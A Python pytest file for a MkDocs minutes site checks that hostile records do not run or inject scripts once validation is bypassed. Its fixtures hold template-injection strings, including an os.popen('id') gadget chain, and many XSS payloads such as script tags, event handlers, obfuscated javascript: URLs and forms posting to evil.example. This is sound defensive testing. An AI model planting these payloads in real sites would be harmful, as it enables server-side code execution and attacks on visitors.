"""Template injection and XSS: what a record that slipped past the checks does to the site.

The checks refuse template syntax and HTML in front-matter (tests/corpus/54-61 give the
exact diagnostics). Here the refusing rules are switched off, as if a hostile record
had been merged anyway, and the site is built in-process with the project's own
theme, plugins and Markdown extensions (mkdocs.yml). Nothing may be evaluated: not
`{{ config }}`, not `os.popen('id')`, not an `{% include %}` of another record, not a
`{# comment #}`. Nothing may become active: every built HTML page is parsed, and its
scripts, event handlers, javascript:/data: URLs, style attributes and embedding
elements must be exactly those of the same site built without the hostile records
(the theme's own), with no raw HTML from a record left in the record pages.
"""

from __future__ import annotations

import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from helpers import FIXTURE, ROOT, SITE_MINUTES, article, build_in_process, make_repo, minutes

from minutebook.base import mkdocs_config

pytestmark = pytest.mark.slow

OTHER = "records/minutes/2026/2026-11-02-fixture-sync.md"  # a record whose body must not be included
OTHER_BODY = "正文里的"  # text of that record's body
SITE_NAME = "测试站点"

TEMPLATES_IN_FRONT_MATTER = minutes(
    base=SITE_MINUTES,
    title="\"{{ config }} {{ config.site_name }} <img src=x onerror=alert('title')></title><script>alert('t')</script>\"",
    owner="\"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"",
    render_macros="true",
    attendees="[张三]",
    location='"{# 注释在地点 #}"',
    published="2026-11-17 12:00",
    tags="[\"<script>alert('tag')</script>\", \"{{ config.site_name }}\", \"\\\" onmouseover=\\\"alert('tag2')\"]",
    blocks=f"""decisions:
  - "<a href=\\"javascript:alert('decision')\\">方案</a> [链接](javascript:alert('md'))"
  - "{{% include '{OTHER}' %}}"
actions:
  - id: HX-01
    task: "{{% include '{OTHER}' %}} <svg onload=alert('task')>"
    owner: 张三
    due: 2026-11-30
    deliverable: "{{{{ lipsum() }}}} <iframe src=\\"javascript:alert('deliverable')\\"></iframe>"
updates:
  - ref: FX-02
    status: in-progress
    note: "<form action=\\"https://evil.example\\"><input name=pw></form> {{{{ self.__init__ }}}}"
""",
    body=f"""模板：{{{{ config }}}}

命令：{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}

包含：{{% include '{OTHER}' %}}

注释：{{# 注释保留 #}}

站点名：{{{{ config.site_name }}}}
""",
)

HTML_IN_BODY = minutes("""<script>alert('script')</script>

<img src="x" onerror="alert('img')"> <img srcset="javascript:alert('srcset')">

[一](javascript:alert(1)) [二](JaVaScRiPt:alert(2)) [三](java&#x09;script:alert(3)) [四]( javascript:alert(4))

[五](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==) [六](vbscript:msgbox(6)) ![七](javascript:alert(7))

[八][evil] <javascript:alert(9)>

[evil]: javascript:alert(8)

<a href="jav&#x09;ascript:alert(10)" onmouseover="alert(11)">链接</a> <a href="&#106;avascript:alert(12)">编码</a>

段落
{: onclick="alert(13)" }

样式
{: style="position:fixed;top:0;left:0;width:100%;height:100%" }

搜索框
{: #__search }

类名
{: .md-header .mb-ok }

### 标题 {: onclick="alert(14)" #__drawer }

[行内](https://example.com){: onclick="alert(15)" style="color:red" }

<iframe src="https://evil.example"></iframe>
<object data="x.swf"></object><embed src="x.swf">
<form action="https://evil.example"><input name="pw"></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<style>body { display: none }</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<svg><script>alert('svg')</script></svg>
<math><mi xlink:href="javascript:alert('math')">x</mi></math>

<details open ontoggle="alert('details')"><summary>展开</summary>内容</details>

<div markdown="1" onclick="alert('md_in_html')" style="color:red">**加粗**</div>

正文标记 BODY-CANARY-42
""", base=SITE_MINUTES, title="正文里的各种 HTML", date="2026-11-18", published="2026-11-18 12:00")

HOSTILE = {
    "records/minutes/2026/2026-11-17-templates.md": TEMPLATES_IN_FRONT_MATTER,
    "records/minutes/2026/2026-11-18-html-body.md": HTML_IN_BODY,
}
# the rules a hostile record must slip past: template syntax, render_macros, HTML,
# and owners that are not in the registry
BYPASSED = ("MB106", "MB107", "MB109", "MB201")


def make_project(tmp: Path, hostile: bool) -> Path:
    """The fixture site, configured as the real site is (theme, plugins, extensions)."""
    project = make_repo(tmp / "project", HOSTILE if hostile else None, fixture=FIXTURE)
    shutil.copytree(ROOT / "docs" / "assets", project / "docs" / "assets")
    shutil.copyfile(ROOT / "docs" / "tags.md", project / "docs" / "tags.md")
    real = mkdocs_config.load(ROOT / "mkdocs.yml")
    own = mkdocs_config.load(FIXTURE / "mkdocs.yml")
    cfg = {k: v for k, v in real.items() if k not in ("nav", "site_url", "site_name", "hooks")}
    cfg.update(site_name=own["site_name"], site_url=own["site_url"], nav=own["nav"] + [{"标签": "tags.md"}])
    (project / "mkdocs.yml").write_text(mkdocs_config.dump(cfg), encoding="utf-8")
    return project


@pytest.fixture(scope="module")
def sites(tmp_path_factory) -> dict[str, Path]:
    out = {}
    for name, hostile in (("plain", False), ("hostile", True)):
        tmp = tmp_path_factory.mktemp(name)
        build_in_process(make_project(tmp, hostile), tmp / "site", disable=BYPASSED if hostile else ())
        out[name] = tmp / "site"
    return out


def page(site: Path, rel: str) -> str:
    return (site / rel.removesuffix(".md") / "index.html").read_text(encoding="utf-8")


def every_file(site: Path):
    for path in sorted(site.rglob("*")):
        if path.is_file() and path.suffix in (".html", ".json", ".xml", ".ics", ".csv", ".js"):
            yield path, path.read_text(encoding="utf-8", errors="replace")


# ---------------------------------------------------------------- active content, parsed

DANGEROUS_SCHEMES = re.compile(r"^\s*(javascript|vbscript|data):", re.I)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "xlink:href", "data", "poster", "background"}
EMBEDDING = {"script", "iframe", "object", "embed", "base", "meta", "style", "link", "form", "input",
             "svg", "math", "frame", "frameset", "applet"}


class Active(HTMLParser):
    """Everything on a page that can run, load or restyle: as a browser's parser sees it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: set[tuple] = set()
        self._script: list | None = None

    def handle_starttag(self, tag, attrs):
        attrs = [(n, v or "") for n, v in attrs]
        if tag == "script":
            self._script = [dict(attrs).get("src", ""), ""]
        elif tag == "link" and ("rel", "canonical") in attrs:
            self.found.add(("element", "link", "canonical"))  # the theme's, one per page
        elif tag in EMBEDDING:
            self.found.add(("element", tag, tuple(sorted(attrs))))
        for name, value in attrs:
            if name.startswith("on"):
                self.found.add(("handler", tag, name, value))
            if name == "style":
                self.found.add(("style", tag, value))
            if name in URL_ATTRIBUTES and DANGEROUS_SCHEMES.match(value):
                self.found.add(("url", tag, name, value))
            if name == "id" and value.startswith("__"):
                self.found.add(("theme-id", tag, value))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        if self._script is not None:
            self._script[1] += data

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            src, text = self._script
            # the theme's config script names the page's depth; that is the theme's, not ours
            text = re.sub(r'"base": ?"[./]*"', '"base": "…"', text.strip())
            self.found.add(("script", src, text))
            self._script = None


def active(site: Path) -> set[tuple]:
    parser = Active()
    for path in sorted(site.rglob("*.html")):
        parser.feed(path.read_text(encoding="utf-8"))
    return parser.found


def test_hostile_records_were_built(sites):
    for rel in HOSTILE:
        assert (sites["hostile"] / rel.removesuffix(".md") / "index.html").is_file()
        assert not (sites["plain"] / rel.removesuffix(".md")).exists()


def test_no_script_handler_url_or_embedding_beyond_the_themes_own(sites):
    theirs, ours = active(sites["plain"]), active(sites["hostile"])
    assert any(kind == "script" for kind, *_ in theirs)  # the theme's scripts are seen at all
    assert ours - theirs == set()
    for rel in HOSTILE:  # the theme has a javascript:void(0) button; a record page's content has none
        record_page = Active()
        record_page.feed(article(page(sites["hostile"], rel)))
        assert not [x for x in record_page.found if x[0] in ("handler", "url", "style", "element", "script")]


def test_theme_ids_and_classes_stay_the_themes(sites):
    html = page(sites["hostile"], "records/minutes/2026/2026-11-18-html-body.md")
    plain = page(sites["plain"], OTHER)
    for theme_id in ('id="__search"', 'id="__drawer"'):
        assert html.count(theme_id) == plain.count(theme_id) == 1
    assert '<p class="mb-ok">类名</p>' in article(html)  # attr_list ran; the md- class was dropped
    assert "<h4>标题" in article(html)  # demoted under 正文; the theme's id dropped


THEME_SEARCH_BLOCK = re.compile(r"<div hidden data-pagefind-ignore.*?</div>", re.S)
# nothing in it but the theme's own spans: `<` and `"` of a value are escaped
THEME_SEARCH_ATTRIBUTES = re.compile(r'<div hidden data-pagefind-ignore( data-mb-people="[^"<>]*")?>\s*'
                                     r'(<span data-pagefind-(meta="title"|filter="[^"<>]+")>[^<]*</span>\s*)+</div>')


def test_record_pages_hold_no_raw_html_from_a_record(sites):
    from minutebook.render.sanitize import _ATTRIBUTES, _TAGS

    allowed = {"class", "id", "title", "href"} | {a for attrs in _ATTRIBUTES.values() for a in attrs}

    class Tags(HTMLParser):
        seen: set = set()

        def handle_starttag(self, tag, attrs):
            self.seen.add(tag)
            for name, _ in attrs:
                assert name in allowed or name == "rel" or (tag, name) == ("article", "data-pagefind-body"), (tag, name)

    for rel in HOSTILE:
        parser = Tags()
        parser.seen = set()
        # the theme's hidden block for the search index (title, filters, people), its values escaped
        theme, rest = THEME_SEARCH_BLOCK.search(article(page(sites["hostile"], rel))), None
        assert theme, rel
        rest = article(page(sites["hostile"], rel)).replace(theme.group(), "", 1)
        assert THEME_SEARCH_ATTRIBUTES.fullmatch(theme.group()), theme.group()
        parser.feed(rest)
        assert parser.seen <= (_TAGS | {"article", "a", "span", "table", "p", "br"}), parser.seen - _TAGS


def text_of(html: str) -> str:
    """The text a reader sees (entities decoded), without scripts and styles."""

    class Text(HTMLParser):
        out: list
        skip = 0

        def handle_starttag(self, tag, attrs):
            self.skip += tag in ("script", "style")

        def handle_endtag(self, tag):
            self.skip -= tag in ("script", "style")

        def handle_data(self, data):
            if not self.skip:
                self.out.append(data)

    parser = Text(convert_charrefs=True)
    parser.out = []
    parser.feed(html)
    return " ".join(" ".join(parser.out).split())


TITLE = ("{{ config }} {{ config.site_name }} <img src=x onerror=alert('title')></title>"
         "<script>alert('t')</script>")


def test_front_matter_html_is_shown_as_text(sites):
    html = page(sites["hostile"], "records/minutes/2026/2026-11-17-templates.md")
    assert re.search(r"<title>(.*?)</title>", html, re.S).group(1).count("<") == 0
    assert text_of(html.split("<title>", 1)[1].split("</title>", 1)[0]) == f"{TITLE} - {SITE_NAME}"
    shown = text_of(article(html))
    for value in (TITLE, "<script>alert('tag')</script>", "\" onmouseover=\"alert('tag2')",
                  "<a href=\"javascript:alert('decision')\">方案</a> [链接](javascript:alert('md'))",
                  "<svg onload=alert('task')>", "<iframe src=\"javascript:alert('deliverable')\"></iframe>",
                  "<form action=\"https://evil.example\"><input name=pw></form>"):
        assert value in shown, value


def pagefind_fragments(site: Path) -> list[dict]:
    import gzip

    out = []
    for path in sorted((site / "pagefind" / "fragment").glob("*.pf_fragment")):
        data = gzip.decompress(path.read_bytes())
        out.append(json.loads(data[data.index(b"{"):]))
    return out


def test_search_index_holds_no_markup_from_records(sites):
    # Pagefind's fragments hold each page's text, as text: a record's markup shown as text
    # on the page is text there too (`<script>` is the characters a reader sees). The UI
    # shows titles as text, and builds excerpts as HTML only after pagefind.js has escaped
    # `<` and `>` of the text: that escape must stay in the Pagefind we ship.
    assert not (sites["hostile"] / "search").exists()
    fragments = {f["url"]: f for f in pagefind_fragments(sites["hostile"])}
    shown = text_of(article(page(sites["hostile"], "records/minutes/2026/2026-11-17-templates.md")))
    fragment = fragments["/records/minutes/2026/2026-11-17-templates/"]
    assert "<script>alert('t')</script>" in shown
    assert "<script>alert('t')</script>" in fragment["content"].replace("\u200b", "")
    pagefind_js = (sites["hostile"] / "pagefind" / "pagefind.js").read_text(encoding="utf-8")
    assert 'fragment.raw_content=fragment.content.replace(/</g,"&lt;").replace(/>/g,"&gt;")' in pagefind_js
    ui = (sites["hostile"] / "pagefind" / "pagefind-ui.js").read_text(encoding="utf-8")
    assert "C.innerHTML=u" in ui and 'r=l[1].meta?.title+""' in ui  # excerpt as HTML, title as text


# ---------------------------------------------------------------- nothing was evaluated


def test_nothing_was_evaluated_anywhere(sites):
    for path, text in every_file(sites["hostile"]):
        assert "uid=" not in text, path  # os.popen('id') did not run
        assert "markdown_extensions" not in text, path  # {{ config }} was not printed
        assert "Lorem ipsum" not in text, path  # lipsum() was not called


def test_templates_are_shown_as_typed(sites):
    body = article(page(sites["hostile"], "records/minutes/2026/2026-11-17-templates.md"))
    text = text_of(body)
    assert "{{ config }}" in text
    assert "{{ cycler.__init__.__globals__.os.popen('id').read() }}" in text
    assert f"{{% include '{OTHER}' %}}" in text
    assert "{# 注释保留 #}" in text and "{# 注释在地点 #}" in text  # a comment that ran would vanish
    assert OTHER_BODY not in body  # the other record was not included
    assert SITE_NAME not in body  # config.site_name was not rendered into the record


def test_tags_and_titles_on_the_tags_page_stay_text(sites):
    tags = text_of(article((sites["hostile"] / "tags" / "index.html").read_text(encoding="utf-8")))
    for value in ("<script>alert('tag')</script>", "{{ config.site_name }}", TITLE):
        assert value in tags


def test_open_items_show_the_hostile_task_as_text(sites):
    html = article(page(sites["hostile"], "open-items.md"))
    assert f"{{% include '{OTHER}' %}} <svg onload=alert('task')>" in text_of(html)
    assert OTHER_BODY not in html
